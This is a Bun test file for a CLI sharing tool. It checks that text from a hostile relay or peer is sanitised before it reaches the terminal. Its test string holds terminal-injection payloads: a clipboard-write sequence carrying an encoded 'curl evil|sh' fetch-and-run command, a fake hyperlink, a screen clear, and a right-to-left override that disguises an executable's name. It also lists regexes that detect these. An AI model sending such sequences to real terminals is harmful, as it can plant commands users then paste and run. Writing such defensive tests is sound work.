// Issue 13 finding 1, attacked against the compiled binary: a peer's text --
// a relay's close reason, a sharer's hello, a receiver's hello -- carrying
// OSC 52 (clipboard write), OSC 8 (a fake link), CSI 2J (clear screen), a C1
// CSI and U+202E (right-to-left override) never reaches a real pty as such,
// before any passphrase is known. The error printer and the logger sanitise
// every message, so no call site can forget.
import { afterAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { encodeMessage, decodeMessage } from "../../src/pack/cbor.ts";
import { writeManySessions } from "../fixtures/many_sessions.ts";
import { isolatedEnv, requireBinary, run } from "../support/bin.ts";
import { Pty } from "../support/pty.ts";
import { startRelay } from "../support/relay_process.ts";

setDefaultTimeout(60_000);

/** Each attack a terminal would act on; the close reason must stay under 123 bytes. */
const HOSTILE = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]8;;http://e/\x1b\\L\x1b[2J\x9b31m\u202Egpj.exe";
const ATTACKS: [string, RegExp][] = [
  ["OSC 52", /\x1b\]52/],
  ["OSC 8", /\x1b\]8;/],
  ["CSI 2J", /\x1b\[2J/],
  ["C1 CSI", /\u009b/],
  ["U+202E", /\u202e/],
];

function expectInert(output: string): void {
  for (const [name, pattern] of ATTACKS) expect([name, pattern.test(output)]).toEqual([name, false]);
}

type Behaviour = (ws: Bun.ServerWebSocket<unknown>, message?: Uint8Array) => void;

/** A stand-in relay that answers every join with `behaviour` (on open, then on each message). */
function hostileRelay(onOpen: Behaviour, onMessage: Behaviour = () => undefined): { url: string; stop(): void } {
  const server = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(request, srv) {
      return srv.upgrade(request) ? undefined : new Response("no", { status: 400 });
    },
    websocket: {
      open: (ws) => onOpen(ws),
      message: (ws, message) => onMessage(ws, typeof message === "string" ? new TextEncoder().encode(message) : new Uint8Array(message)),
    },
  });
  return { url: `ws://127.0.0.1:${server.port}`, stop: () => server.stop(true) };
}

const stops: (() => void)[] = [];
afterAll(() => stops.forEach((stop) => stop()));

const CODE = "K7P2QX-orbit-maple-tiger-flute";

describe("a hostile peer's text on the receiver's terminal", () => {
  test("a relay's close reason in the error", async () => {
    const relay = hostileRelay((ws) => ws.close(4004, HOSTILE));
    stops.push(relay.stop);
    const { env, home } = isolatedEnv();
    const pty = new Pty([requireBinary(), "receive", "--no-lan", "--relay", relay.url, CODE], { env, cwd: home });
    expect(await pty.exited()).toBe(1);
    expect(pty.history().join("\n")).toContain("ccshare: No sharer is waiting in that room (");
    expectInert(pty.output);
  });

  test("a sharer's hello whose version field is a control sequence", async () => {
    const relay = hostileRelay(
      () => undefined,
      (ws) => ws.send(encodeMessage({ t: "hello", v: HOSTILE, role: "share", nonce: new Uint8Array(16).fill(7) })),
    );
    stops.push(relay.stop);
    const { env, home } = isolatedEnv();
    const pty = new Pty([requireBinary(), "receive", "--no-lan", "--relay", relay.url, CODE], { env, cwd: home });
    expect(await pty.exited()).toBe(1);
    expect(pty.history().join("\n")).toContain("ccshare: The other side speaks ccshare protocol version ");
    expectInert(pty.output);
  });

  test("with --json the same text is escaped in the error event, and still says what it is", async () => {
    const relay = hostileRelay((ws) => ws.close(4004, HOSTILE));
    stops.push(relay.stop);
    const { env, home } = isolatedEnv();
    const r = await run([requireBinary(), "receive", "--no-lan", "--relay", relay.url, CODE, "--json"], { env, cwd: home });
    expect(r.code).toBe(1);
    const error = JSON.parse(r.stdout.trim().split("\n").at(-1)!);
    expect(error).toMatchObject({ event: "error", code: "room-not-found" });
    expect(error.message).toStartWith("No sharer is waiting in that room (");
    expectInert(r.stdout + r.stderr);
  });
});

describe("a hostile receiver's text on the sharer's terminal", () => {
  test("the 'Receiver #1:' warning about a hello whose role is a control sequence", async () => {
    const relay = await startRelay();
    const sharer = isolatedEnv();
    writeManySessions(sharer.env.CLAUDE_CONFIG_DIR!, 1);
    const share = new Pty([requireBinary(), "share", "--all", "--yes", "--no-lan", "--relay", relay.url, "--keep-open", "1"], { env: sharer.env });
    const room = /Code: ([0-9A-Z]{6})-/.exec(await share.waitFor(/Code: [0-9A-Z]{6}-/))![1]!;
    const ws = new WebSocket(`${relay.url}/v1/join/${room}`);
    ws.binaryType = "arraybuffer";
    await new Promise((resolve, reject) => {
      ws.onopen = resolve;
      ws.onerror = reject;
    });
    ws.send(encodeMessage({ t: "hello", v: 1, role: HOSTILE, nonce: new Uint8Array(16).fill(9) }) as Uint8Array<ArrayBuffer>);
    await share.waitFor("Receiver #1: The other side's hello says role");
    expectInert(share.output);
    ws.close();
    share.kill();
    relay.stop();
    // The attack reached the sharer's handshake as sent (the test is not vacuous).
    expect(decodeMessage(encodeMessage({ t: "hello", v: 1, role: HOSTILE, nonce: new Uint8Array(16) })).role).toBe(HOSTILE);
  });
});
